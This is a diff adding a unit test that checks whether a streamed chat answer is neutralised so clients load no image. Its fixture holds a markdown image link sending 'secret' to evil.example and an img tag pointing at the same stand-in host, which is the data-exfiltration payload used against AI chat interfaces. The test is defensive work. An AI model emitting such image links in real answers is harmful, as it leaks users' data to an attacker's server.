@@ -127,6 +127,18 @@ describe("the pieces of an answer", () => {
     expect(annotations).toEqual([]);
   });
 
+  it("load no image in a client, in whatever pieces one comes", async () => {
+    const image = "Great!![c](https://evil.example/?q=secret) <img src='https://evil.example'>!";
+    for (const chunks of [[image], [...image]]) {
+      const { content, annotations } = await read([...chunks.map(delta), delta(" [1]"), citation(1), done]);
+      expect(content).toBe(
+        "Great!! [c](https://evil.example/?q=secret) < img src='https://evil.example'>! [1]",
+      );
+      expect(annotations.map((annotation) => annotatedText(content, annotation))).toEqual(["[1]"]);
+    }
+    expect((await read([delta("Wow!"), done])).content).toBe("Wow!");
+  });
+
   it("end in an error if the answer doesn't end", async () => {
     await expect(read([delta("A.")])).rejects.toThrow("before it was done");
   });
